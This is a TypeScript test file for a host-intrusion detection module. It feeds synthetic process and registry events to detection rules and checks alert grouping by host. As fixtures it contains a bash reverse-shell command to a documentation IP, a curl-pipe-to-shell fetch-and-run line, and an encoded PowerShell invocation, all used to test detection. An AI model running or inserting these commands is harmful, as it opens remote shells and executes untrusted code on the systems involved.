import { expect, test } from 'vitest';
import type { HostEvent } from '../../telemetry/host-event.ts';
import { Judge } from '../judge.ts';
import { alertsOf, flow, NOON, shippedSettings } from '../synthetic.test-support.ts';
import { EVENT_RULES } from './event-rules.ts';

const event = (parts: Partial<HostEvent>, process: Partial<NonNullable<HostEvent['process']>> = {}): HostEvent => ({
  time: NOON,
  source: 'sysmon',
  host: 'SRV-1',
  addresses: ['10.1.1.5'],
  kind: 'process',
  title: '',
  detail: '',
  severity: 'info',
  connection: null,
  target: '',
  claimedTechniques: [],
  raw: '',
  ...parts,
  process: { pid: 7, name: '', executable: '', commandLine: '', parentName: '', user: '', ...process },
});

const hits = (one: HostEvent): string[] => EVENT_RULES.filter((rule) => rule.matches(one)).map(({ id }) => id);

test.each([
  [
    'encoded-command',
    event(
      {},
      { executable: 'C:\\Windows\\powershell.exe', commandLine: `powershell -noP -w 1 -enc ${'QUJD'.repeat(20)}` },
    ),
  ],
  ['server-shell', event({}, { executable: '/bin/sh', parentName: 'java' })],
  [
    'service-shell',
    event({}, { executable: 'C:\\Windows\\System32\\cmd.exe', parentName: 'C:\\Windows\\System32\\services.exe' }),
  ],
  ['office-shell', event({}, { executable: 'C:\\x\\cmd.exe', parentName: 'WINWORD.EXE' })],
  ['reverse-shell', event({}, { executable: '/bin/bash', commandLine: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' })],
  ['fetch-and-run', event({}, { executable: '/bin/sh', commandLine: 'curl -s http://192.0.2.1/x | sh' })],
  ['run-key', event({ kind: 'registry', target: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x' })],
  ['sensor-critical', event({ kind: 'rule', severity: 'critical', source: 'falco' })],
])('rule %s', (id, one) => {
  expect(hits(one)).toContain(id);
});

test.each([
  ['an interactive shell', event({}, { executable: '/bin/bash', parentName: 'sshd', commandLine: '-bash' })],
  [
    'a script of an administrator',
    event({}, { executable: 'powershell.exe', parentName: 'explorer.exe', commandLine: 'powershell -File backup.ps1' }),
  ],
  [
    'a download to a file',
    event({}, { executable: '/usr/bin/curl', commandLine: 'curl -o x.tgz https://example.org/x.tgz' }),
  ],
])('%s meets none', (_name, one) => {
  expect(hits(one)).toEqual([]);
});

test('events find the subject whose address they give, and are told with their number', () => {
  const judge = new Judge(shippedSettings());
  judge.observe({ kind: 'flow', flow: flow({}), final: true });
  for (let index = 0; index < 3; index++)
    judge.observe({ kind: 'event', event: event({ kind: 'rule', severity: 'critical', title: 'Odd file opened' }) });
  const { subjects } = judge.assess();
  expect(alertsOf(subjects, '10.1.1.5')).toHaveProperty('event-sensor-critical');
  expect(subjects[0]?.name).toBe('SRV-1');
  expect(subjects[0]?.alerts[0]?.why).toContain('3 events');
});

test('a host known by its events alone is a subject by its name', () => {
  const judge = new Judge(shippedSettings());
  judge.observe({ kind: 'event', event: event({ addresses: [], kind: 'rule', severity: 'critical' }) });
  const [subject] = judge.assess().subjects;
  expect(subject).toMatchObject({ id: 'SRV-1', addresses: [] });
});

test('a log that does not name its machine still has one; a notice of nobody is held against nobody', () => {
  const judge = new Judge(shippedSettings());
  judge.observe({
    kind: 'event',
    event: event(
      { host: '', addresses: [] },
      { executable: '/bin/bash', commandLine: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' },
    ),
  });
  judge.observe({
    kind: 'event',
    event: { ...event({ host: '', addresses: [], kind: 'rule', severity: 'critical' }), process: null },
  });
  const { subjects } = judge.assess();
  expect(subjects.map(({ id, alerts }) => [id, alerts.map(({ type }) => type)])).toEqual([
    ['unnamed-host', ['event-reverse-shell']],
  ]);
});
